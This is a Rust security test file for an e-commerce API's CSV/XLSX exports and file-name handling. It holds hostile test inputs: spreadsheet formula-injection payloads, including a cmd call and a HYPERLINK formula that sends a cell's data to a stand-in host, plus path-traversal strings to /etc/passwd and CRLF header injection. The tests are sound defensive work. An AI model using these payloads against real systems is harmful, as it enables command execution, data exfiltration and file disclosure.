//! Files for spreadsheets: what somebody typed is never run there.

use std::io::{Cursor, Read};

use serde_json::json;
use souk_tests::TestApp;

/// What spreadsheets take for the beginning of a formula, or of a command.
const FORMULAS: &[&str] = &[
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "=cmd|'/c calc'!A1",
    "=HYPERLINK(\"http://evil.example?\"&A1)",
    "=\"x\",\r\n=2",
    "＝1+1",
    "＋1",
    "－1",
    "＠SUM(1)",
];

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn v1_2_10_what_somebody_typed_is_no_formula_in_any_export() {
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let warehouse = admin.warehouse("=W1").await;
    let mut ids = Vec::new();
    for (index, text) in FORMULAS.iter().enumerate() {
        // Line ends are taken out of codes; quotes and commas stay.
        let sku = format!("{}{index}", text.replace(['\r', '\n'], " "));
        let product = json!({
            "sku": sku, "title": {"en": text.replace('\r', "")}, "external_id": format!("{}{index}", text.replace(['\r', '\n'], "")),
            "tags": [text.replace(['\r', '\n'], "")],
            "prices": {"base": {"amount": "1000", "currency": "IQD"}},
        });
        let id = admin.post("/api/v1/products", &product).await.created()["id"].as_str().unwrap().to_owned();
        admin.stock(&id, &warehouse, 10).await.ok();
        let order = json!({
            "external_id": format!("{}{index}", text.replace(['\r', '\n'], "")),
            "country": text.replace(['\r', '\n'], ""), "lines": [{"product_id": id, "quantity": 1}],
        });
        admin.post("/api/v1/orders", &order).await.created();
        ids.push(id);
    }
    app.settle().await;
    let mut cells = 0;
    for report in ["orders", "products", "customers", "sales", "inventory"] {
        let csv = admin.get(&format!("/api/v1/export/{report}/csv")).await;
        let disposition = format!("attachment; filename=\"{report}.csv\"");
        assert_eq!((csv.status.as_u16(), csv.header("content-disposition")), (200, disposition.as_str()));
        assert_eq!(csv.header("content-type"), "text/csv; charset=utf-8");
        for record in csv::ReaderBuilder::new().flexible(false).from_reader(csv.bytes.as_slice()).records() {
            for cell in &record.expect("rows of one length") {
                let is_formula =
                    cell.starts_with(['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠']);
                let is_number = cell.parse::<f64>().is_ok();
                assert!(!is_formula || is_number, "{report} has the cell {cell:?}");
                cells += usize::from(cell.starts_with('\''));
            }
        }
        // A workbook says of every cell what it is: none is a formula.
        let workbook = admin.get(&format!("/api/v1/export/{report}/xlsx")).await;
        assert_eq!(workbook.status, 200);
        let mut files = zip::ZipArchive::new(Cursor::new(workbook.bytes)).unwrap();
        for index in 0..files.len() {
            let mut file = files.by_index(index).unwrap();
            let mut text = String::new();
            file.read_to_string(&mut text).unwrap();
            let has_formula = text.contains("<f>") || text.contains("<f ");
            assert!(!has_formula, "{report}: {:?} has a formula", file.name());
            let has_link = text.contains("TargetMode=\"External\"") || text.contains("<hyperlink");
            assert!(!has_link, "{report}: {:?} has a link", file.name());
        }
    }
    assert!(cells >= FORMULAS.len(), "only {cells} cells were made harmless: the exports do not hold them");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn v5_3_2_no_name_of_a_request_becomes_a_path_of_a_file() {
    use crate::security::support::raw::{encoded, send};
    let app = TestApp::spawn().await;
    let admin = app.admin().await;
    let bearer = format!("Bearer {}", admin.token().unwrap());
    let secret = std::fs::read_dir(app.data_dir().join("secrets")).unwrap().flatten().next().unwrap();
    let secret = secret.path().display().to_string();
    for name in [
        "../orders",
        "..\\orders",
        "orders/../customers",
        "/etc/passwd",
        "../../../../../../../../etc/passwd",
        "....//....//etc/passwd",
        "orders\0",
        "orders%00.csv",
        "file:///etc/passwd",
        "\\\\host\\share",
        "orders\r\nX-Injected: yes",
        "orders\".exe",
        "CON",
        secret.as_str(),
    ] {
        for target in [
            format!("/api/v1/export/{}/csv", encoded(name)),
            format!("/api/v1/export/{}/xlsx", encoded(name)),
            format!("/docs/{}", encoded(name)),
            format!("/docs/{name}").replace(['\r', '\n', '\0', ' ', '"'], ""),
            format!("/api/v1/monitoring/projections/{}", encoded(name)),
        ] {
            let reply = send(app.address, "GET", &target, &[("Authorization", &bearer)], b"").await;
            assert!((400..500).contains(&reply.status), "{target}: {} {}", reply.status, reply.text());
            for word in ["root:", "PRIVATE KEY", "BEGIN"] {
                assert!(!reply.text().contains(word), "{target}");
            }
            assert!(reply.header("x-injected").is_none(), "{target}");
        }
    }
    // The data folder holds what it held: the server has written nothing where a name pointed.
    for entry in std::fs::read_dir(app.data_dir()).unwrap().flatten() {
        let name = entry.file_name().into_string().unwrap();
        assert!(
            ["secrets", "mail", "erasures", "files"].iter().any(|own| name.starts_with(own)),
            "{name} is new"
        );
    }
}
